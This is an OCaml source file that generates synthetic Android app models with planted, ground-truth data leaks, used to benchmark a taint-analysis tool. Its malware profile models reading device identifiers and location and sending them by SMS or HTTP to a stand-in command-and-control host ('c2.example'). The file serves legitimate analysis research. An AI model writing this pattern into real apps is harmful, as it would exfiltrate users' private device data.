@@ -1,0 +1,359 @@
+(** Synthetic app-corpus generation for RQ3.
+
+    The paper evaluates FlowDroid on the 500 most popular Google-Play
+    apps and ~1000 VirusShare malware samples; neither corpus is
+    redistributable ("for legal reasons we are unable to provide these
+    applications online").  This generator produces deterministic
+    (seeded) corpora with the two profiles' reported characteristics:
+
+    - {b Play profile}: larger apps (more classes, deeper call
+      plumbing, several components), whose leaks are mostly
+      *accidental* — identifiers and location data ending up in logs
+      and preference files, typically via an embedded
+      advertisement-library-like cluster (Section 6.3's findings);
+    - {b Malware profile}: comparatively small apps averaging 1.85
+      planted leaks, mostly identifiers sent by SMS or to a remote
+      server, plus the broadcast-receiver-forwards-to-SMS pattern the
+      paper describes.
+
+    Every planted leak carries ground-truth tags, so corpus runs can
+    measure recall on known flows in addition to runtime. *)
+
+open Fd_ir
+open Fd_util
+module B = Build
+module T = Types
+module FW = Fd_frontend.Framework
+module Apk = Fd_frontend.Apk
+
+type profile = Play | Malware
+
+let string_of_profile = function Play -> "play" | Malware -> "malware"
+
+type gen_app = {
+  ga_name : string;
+  ga_profile : profile;
+  ga_apk : Apk.t;
+  ga_expected : (string option * string) list;  (** planted ground truth *)
+  ga_classes : int;  (** size metrics for reporting *)
+}
+
+(* ------------------------------------------------------------------ *)
+(* code-shape helpers                                                  *)
+(* ------------------------------------------------------------------ *)
+
+let str_t = T.Ref "java.lang.String"
+
+(* source emitters: (category tag stem, emit imei-like value) *)
+let emit_imei m rng ret =
+  ignore rng;
+  let tm = B.local m "tm" ~ty:(T.Ref "android.telephony.TelephonyManager") in
+  B.newobj m tm "android.telephony.TelephonyManager";
+  B.vcall m ~tag:"src" ~ret tm "android.telephony.TelephonyManager"
+    (Prng.choose rng [ "getDeviceId"; "getSubscriberId"; "getSimSerialNumber" ])
+    []
+
+let emit_location m rng ret =
+  ignore rng;
+  let lm = B.local m "lm" ~ty:(T.Ref "android.location.LocationManager") in
+  B.newobj m lm "android.location.LocationManager";
+  B.vcall m ~tag:"src" ~ret lm "android.location.LocationManager"
+    "getLastKnownLocation" [ B.s "gps" ]
+
+(* sink emitters *)
+let emit_log m data =
+  B.scall m ~tag:"snk" "android.util.Log"
+    (* the variety exercises the whole log sink family *)
+    "i" [ B.s "tag"; data ]
+
+let emit_prefs m data =
+  let ed = B.local m "ed" ~ty:(T.Ref "android.content.SharedPreferences$Editor") in
+  B.newobj m ed "android.content.SharedPreferences$Editor";
+  B.vcall m ~tag:"snk" ed "android.content.SharedPreferences$Editor"
+    "putString" [ B.s "k"; data ]
+
+let emit_sms m data =
+  let sms = B.local m "sms" ~ty:(T.Ref "android.telephony.SmsManager") in
+  B.scall m ~ret:sms "android.telephony.SmsManager" "getDefault" [];
+  B.vcall m ~tag:"snk" sms "android.telephony.SmsManager" "sendTextMessage"
+    [ B.s "+790001"; B.nul; data; B.nul; B.nul ]
+
+let emit_http m data =
+  let conn = B.local m "conn" ~ty:(T.Ref "java.net.HttpURLConnection") in
+  B.newc m conn "java.net.HttpURLConnection" [ B.s "http://c2.example/x" ];
+  B.vcall m ~tag:"snk" conn "java.net.HttpURLConnection" "sendRequest" [ data ]
+
+(* relay helper classes give the planted flows interprocedural depth;
+   each utility also calls into the next one, giving the Play-profile
+   apps the deeper call plumbing that makes them slower to analyse *)
+let relay_class ?(chain_to = None) pkg idx =
+  let cls = Printf.sprintf "%s.Util%d" pkg idx in
+  ( cls,
+    B.cls cls
+      [
+        B.meth "pass" ~static:true ~params:[ str_t ] ~ret:str_t (fun m ->
+            let p = B.param m 0 "p" in
+            match chain_to with
+            | Some next ->
+                let r = B.local m "r" in
+                B.scall m ~ret:r next "pass" [ B.v p ];
+                B.retv m (B.v r)
+            | None -> B.retv m (B.v p));
+        B.meth "decorate" ~static:true ~params:[ str_t ] ~ret:str_t (fun m ->
+            let p = B.param m 0 "p" in
+            let r = B.local m "r" in
+            B.binop m r "+" (B.s "v=") (B.v p);
+            B.retv m (B.v r));
+        B.meth "busy" ~static:true ~params:[ T.Int ] ~ret:T.Int (fun m ->
+            (* taint-free plumbing: gives the solver work without flows *)
+            let p = B.param m 0 "p" in
+            let r = B.local m "r" ~ty:T.Int in
+            B.binop m r "*" (B.v p) (B.i 31);
+            B.binop m r "+" (B.v r) (B.i 7);
+            B.retv m (B.v r));
+      ] )
+
+(* emit a leak: source -> 0..depth relay hops -> sink, tagged with a
+   unique pair *)
+let plant_leak m rng ~relays ~leak_id ~src_kind ~sink_kind =
+  let x = B.local m (Printf.sprintf "leak%d" leak_id) in
+  let src_tag = Printf.sprintf "src%d" leak_id in
+  let snk_tag = Printf.sprintf "snk%d" leak_id in
+  (match src_kind with
+  | `Imei ->
+      let tm =
+        B.local m (Printf.sprintf "tm%d" leak_id)
+          ~ty:(T.Ref "android.telephony.TelephonyManager")
+      in
+      B.newobj m tm "android.telephony.TelephonyManager";
+      B.vcall m ~tag:src_tag ~ret:x tm "android.telephony.TelephonyManager"
+        (Prng.choose rng [ "getDeviceId"; "getSubscriberId"; "getLine1Number" ])
+        []
+  | `Location ->
+      let lm =
+        B.local m (Printf.sprintf "lm%d" leak_id)
+          ~ty:(T.Ref "android.location.LocationManager")
+      in
+      B.newobj m lm "android.location.LocationManager";
+      B.vcall m ~tag:src_tag ~ret:x lm "android.location.LocationManager"
+        "getLastKnownLocation" [ B.s "gps" ]);
+  (* relay hops *)
+  let hops = Prng.int rng 3 in
+  let cur = ref x in
+  for h = 1 to hops do
+    let y = B.local m (Printf.sprintf "leak%d_h%d" leak_id h) in
+    (match (relays, Prng.int rng 3) with
+    | relay :: _, 0 -> B.scall m ~ret:y relay "pass" [ B.v !cur ]
+    | _ :: relay :: _, 1 -> B.scall m ~ret:y relay "decorate" [ B.v !cur ]
+    | _ -> B.binop m y "+" (B.s "#") (B.v !cur));
+    cur := y
+  done;
+  let data = B.v !cur in
+  let emit =
+    match sink_kind with
+    | `Log ->
+        fun () ->
+          B.scall m ~tag:snk_tag "android.util.Log" "i" [ B.s "t"; data ]
+    | `Prefs ->
+        fun () ->
+          let ed =
+            B.local m (Printf.sprintf "ed%d" leak_id)
+              ~ty:(T.Ref "android.content.SharedPreferences$Editor")
+          in
+          B.newobj m ed "android.content.SharedPreferences$Editor";
+          B.vcall m ~tag:snk_tag ed "android.content.SharedPreferences$Editor"
+            "putString" [ B.s "k"; data ]
+    | `Sms ->
+        fun () ->
+          let sms =
+            B.local m (Printf.sprintf "sms%d" leak_id)
+              ~ty:(T.Ref "android.telephony.SmsManager")
+          in
+          B.scall m ~ret:sms "android.telephony.SmsManager" "getDefault" [];
+          B.vcall m ~tag:snk_tag sms "android.telephony.SmsManager"
+            "sendTextMessage" [ B.s "+790001"; B.nul; data; B.nul; B.nul ]
+    | `Http ->
+        fun () ->
+          let conn =
+            B.local m (Printf.sprintf "conn%d" leak_id)
+              ~ty:(T.Ref "java.net.HttpURLConnection")
+          in
+          B.newc m conn "java.net.HttpURLConnection" [ B.s "http://c2/x" ];
+          B.vcall m ~tag:snk_tag conn "java.net.HttpURLConnection"
+            "sendRequest" [ data ]
+  in
+  emit ();
+  (Some src_tag, snk_tag)
+
+(* benign code: constant flows into sinks, arithmetic plumbing *)
+let emit_benign m rng ~relays ~idx =
+  match Prng.int rng 3 with
+  | 0 ->
+      let x = B.local m (Printf.sprintf "ben%d" idx) in
+      B.const m x (B.s "static text");
+      B.scall m "android.util.Log" "d" [ B.s "t"; B.v x ]
+  | 1 ->
+      let n = B.local m (Printf.sprintf "n%d" idx) ~ty:T.Int in
+      B.const m n (B.i (Prng.int rng 1000));
+      (match relays with
+      | relay :: _ -> B.scall m ~ret:n relay "busy" [ B.v n ]
+      | [] -> ())
+  | _ ->
+      let a = B.local m (Printf.sprintf "a%d" idx) in
+      let b = B.local m (Printf.sprintf "b%d" idx) in
+      B.const m a (B.s "x");
+      B.binop m b "+" (B.v a) (B.s "y")
+
+(* ------------------------------------------------------------------ *)
+(* app assembly                                                        *)
+(* ------------------------------------------------------------------ *)
+
+let profile_params = function
+  | Play ->
+      (* (min/max utility classes, extra components, leak count sampler,
+         sink choices, benign statements per method) *)
+      `Params (10, 28, 5, `PlayLeaks, [ `Log; `Prefs ], 8)
+  | Malware -> `Params (1, 5, 2, `Poisson 1.85, [ `Sms; `Http; `Log ], 2)
+
+(** [generate ~profile ~seed index] produces one deterministic app. *)
+let generate ~profile ~seed index =
+  let rng = Prng.create (seed + (index * 7919)) in
+  let (`Params (min_u, max_u, max_comp, leak_model, sinks, benign_per)) =
+    profile_params profile
+  in
+  let pkg =
+    Printf.sprintf "gen.%s.app%d" (string_of_profile profile) index
+  in
+  let n_util = Prng.range rng min_u max_u in
+  let relays =
+    List.init n_util (fun i ->
+        let chain_to =
+          (* Play apps get a chained utility layer *)
+          if profile = Play && i + 1 < n_util then
+            Some (Printf.sprintf "%s.Util%d" pkg (i + 1))
+          else None
+        in
+        relay_class ~chain_to pkg i)
+  in
+  let relay_names = List.map fst relays in
+  let n_leaks =
+    match leak_model with
+    | `Poisson mean -> Prng.poisson rng mean
+    | `PlayLeaks ->
+        (* the majority of Play apps leak identifiers into logs/prefs
+           (Section 6.3), usually once or twice *)
+        if Prng.float rng 1.0 < 0.75 then Prng.range rng 1 2 else 0
+  in
+  let leak_specs =
+    List.init n_leaks (fun i ->
+        let src = if Prng.bool rng then `Imei else `Location in
+        let sink = Prng.choose rng sinks in
+        (i, src, sink))
+  in
+  let expected = ref [] in
+  (* components: one main activity always; extra services/receivers *)
+  let n_extra = Prng.int rng (max_comp + 1) in
+  let main_cls = pkg ^ ".MainActivity" in
+  let extra =
+    List.init n_extra (fun i ->
+        let kind = Prng.choose rng [ FW.Service; FW.Receiver ] in
+        let cls =
+          Printf.sprintf "%s.%s%d" pkg
+            (match kind with
+            | FW.Service -> "Service"
+            | FW.Receiver -> "Receiver"
+            | _ -> "Comp")
+            i
+        in
+        (kind, cls))
+  in
+  (* distribute leaks over the components' lifecycle methods *)
+  let slots =
+    (main_cls, `Activity)
+    :: List.map (fun (k, c) -> (c, if k = FW.Service then `Service else `Receiver)) extra
+  in
+  let leaks_for cls =
+    List.filter (fun (i, _, _) ->
+        let (slot_cls, _) = List.nth slots (i mod List.length slots) in
+        slot_cls = cls)
+      leak_specs
+  in
+  let emit_leaks m cls =
+    List.iter
+      (fun (i, src, sink) ->
+        let pair =
+          plant_leak m rng ~relays:relay_names ~leak_id:i ~src_kind:src
+            ~sink_kind:sink
+        in
+        expected := pair :: !expected)
+      (leaks_for cls);
+    List.iteri (fun j () -> emit_benign m rng ~relays:relay_names ~idx:j)
+      (List.init benign_per (fun _ -> ()))
+  in
+  let main_activity =
+    B.cls main_cls ~super:"android.app.Activity"
+      [
+        Build.meth "onCreate" ~params:[ T.Ref "android.os.Bundle" ] (fun m ->
+            let _this = B.this m in
+            let _ = B.param m 0 "b" in
+            emit_leaks m main_cls);
+        Build.meth "onDestroy" (fun m ->
+            let _this = B.this m in
+            List.iteri
+              (fun j () -> emit_benign m rng ~relays:relay_names ~idx:(100 + j))
+              (List.init 2 (fun _ -> ())));
+      ]
+  in
+  let extra_classes =
+    List.map
+      (fun (kind, cls) ->
+        match kind with
+        | FW.Service ->
+            B.cls cls ~super:"android.app.Service"
+              [
+                Build.meth "onStartCommand"
+                  ~params:[ T.Ref "android.content.Intent"; T.Int; T.Int ]
+                  ~ret:T.Int
+                  (fun m ->
+                    let _this = B.this m in
+                    let _i = B.param m 0 "i" in
+                    emit_leaks m cls;
+                    let r = B.local m "r" ~ty:T.Int in
+                    B.const m r (B.i 1);
+                    B.retv m (B.v r));
+              ]
+        | _ ->
+            B.cls cls ~super:"android.content.BroadcastReceiver"
+              [
+                Build.meth "onReceive"
+                  ~params:
+                    [ T.Ref "android.content.Context";
+                      T.Ref "android.content.Intent" ]
+                  (fun m ->
+                    let _this = B.this m in
+                    let _c = B.param m 0 "c" in
+                    let intent = B.param m 1 "intent" in
+                    ignore intent;
+                    emit_leaks m cls);
+              ])
+      extra
+  in
+  let manifest =
+    Apk.simple_manifest ~package:pkg
+      ((FW.Activity, main_cls, [])
+      :: List.map (fun (k, c) -> (k, c, [])) extra)
+  in
+  let classes = main_activity :: extra_classes @ List.map snd relays in
+  {
+    ga_name = Printf.sprintf "%s-%04d" (string_of_profile profile) index;
+    ga_profile = profile;
+    ga_apk = Apk.make (Printf.sprintf "gen%d" index) ~manifest classes;
+    ga_expected = List.rev !expected;
+    ga_classes = List.length classes;
+  }
+
+(** [corpus ~profile ~seed n] is a deterministic corpus of [n] apps. *)
+let corpus ~profile ~seed n = List.init n (generate ~profile ~seed)
+
+(* keep the standalone emitters exported for tests *)
+let _ = (emit_imei, emit_location, emit_log, emit_prefs, emit_sms, emit_http)
